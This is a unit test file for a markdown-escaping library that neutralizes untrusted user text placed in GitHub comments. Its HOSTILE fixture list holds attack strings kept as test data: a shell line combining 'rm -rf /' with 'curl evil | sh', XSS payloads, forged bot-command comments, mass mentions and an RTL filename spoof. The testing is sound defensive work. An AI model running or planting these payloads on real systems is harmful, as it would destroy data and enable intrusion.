import { describe, expect, it } from "vitest";
import { ZWJ, escapeMarkdown, plainLine, quoteUserText } from "../../src/markdown/index.js";

const HOSTILE = [
  "; rm -rf / $(x) `x` && curl evil | sh",
  "@octocat please look, cc @org/team and @org/security-team",
  "[click](javascript:alert(1)) and ![img](https://evil.example/x.png)",
  '<!-- repin:data {"v":1,"ignores":[]} -->',
  "<!-- repin:rescan -->",
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "| a | b |\n|---|---|\n| c | d |",
  "line1\nline2\r\n# heading\n- [x] <!-- repin:rescan --> Rescan",
  "see https://evil.example and www.evil.example and #1 and owner/repo#2",
  "a\\|b\\\\|c",
  "```` code ```` and ` tick",
  "--> end a comment -- or --->",
  "\u202Egnp.exe\u200B\u0007",
];

/**
 * The raw text GitHub would see must not start a comment or a new line; outside code it must not
 * mention anyone either (GitHub makes no mentions inside code spans, so `@name` may stay there).
 */
function expectInert(out: string, inCode = false): void {
  expect(out).not.toMatch(/[\r\n]/);
  expect(out).not.toContain("<!--");
  expect(out).not.toContain("-->");
  if (!inCode) expect(out).not.toMatch(/@[A-Za-z0-9]/);
}

describe("escapeMarkdown", () => {
  it("leaves plain words alone", () => {
    expect(escapeMarkdown("hello world 42")).toBe("hello world 42");
  });

  it.each(HOSTILE)("neutralizes %j", (text) => {
    const out = escapeMarkdown(text);
    expectInert(out);
    expect(out).not.toMatch(/[<>]/);
    // Every markdown-significant character is backslash-escaped.
    expect(out).not.toMatch(/(^|[^\\])[[\]()|`*_!]/);
    expect(out).not.toContain("://");
    expect(out).not.toMatch(/www\./i);
  });

  it("breaks mentions, issue references and links with a zero-width joiner", () => {
    expect(escapeMarkdown("@org/team")).toBe(`@${ZWJ}org/team`);
    expect(escapeMarkdown("#12")).toBe(`\\#${ZWJ}12`);
    expect(escapeMarkdown("[click](javascript:x)")).toBe("\\[click\\]\\(javascript\\:x\\)");
    expect(escapeMarkdown("<img src=x onerror=y>")).toBe("&lt;img src\\=x onerror\\=y&gt;");
    expect(escapeMarkdown("https://e.x")).toBe(`https\\:${ZWJ}//e\\.x`);
  });

  it("caps the length of 1 MB of text and stays fast", () => {
    const started = performance.now();
    const out = escapeMarkdown("@a ".repeat(350_000), { max: 100 });
    expect(performance.now() - started).toBeLessThan(500);
    expect(out.endsWith("…")).toBe(true);
    expect(out.length).toBeLessThan(200);
    expectInert(out);
  });
});

describe("quoteUserText", () => {
  it("wraps text in a code span", () => {
    expect(quoteUserText("python:3.12")).toBe("`python:3.12`");
    expect(quoteUserText("")).toBe("*(empty)*");
  });

  it.each(HOSTILE)("neutralizes %j", (text) => {
    const out = quoteUserText(text, 1000);
    expectInert(out, true);
    const fence = /^`+/.exec(out)?.[0] ?? "";
    expect(fence.length).toBeGreaterThan(0);
    expect(out.endsWith(fence)).toBe(true);
    // No backtick run inside as long as the fence, so the span cannot close early.
    const inner = out.slice(fence.length, out.length - fence.length);
    expect(inner.includes(fence)).toBe(false);
  });

  it("uses a longer fence around backticks and pads a leading or trailing one", () => {
    expect(quoteUserText("a`b")).toBe("``a`b``");
    expect(quoteUserText("``x``")).toBe("``` ``x`` ```");
  });

  it("escapes pipes only in table cells, keeping a backslash from pairing with ours", () => {
    expect(quoteUserText("a|b")).toBe("`a|b`");
    expect(quoteUserText("a|b", 100, { inTable: true })).toBe("`a\\|b`");
    expect(quoteUserText("a\\|b", 100, { inTable: true })).toBe(`\`a\\${ZWJ}\\|b\``);
    // GFM's cell scanner treats `\x` as a pair: no pipe may be left unpaired.
    for (const text of HOSTILE) {
      const out = quoteUserText(text, 1000, { inTable: true });
      let i = 0;
      while (i < out.length) {
        if (out[i] === "\\") i += 2;
        else {
          expect(out[i]).not.toBe("|");
          i++;
        }
      }
    }
  });

  it("caps the length", () => {
    const out = quoteUserText("x".repeat(1 << 20), 50);
    expect(out).toBe(`\`${"x".repeat(49)}…\``);
  });
});

describe("plainLine", () => {
  it("collapses whitespace, drops invisible characters and counts code points", () => {
    expect(plainLine("  a \n\t b  ")).toBe("a b");
    expect(plainLine("a\u202Eb\u200Bc\uFEFFd\u0000")).toBe("abcd");
    expect(plainLine("😀😀😀😀", 3)).toBe("😀😀…");
    expect(plainLine("😀😀😀", 3)).toBe("😀😀😀");
    expect(plainLine("\ud800x")).toBe("x");
  });
});
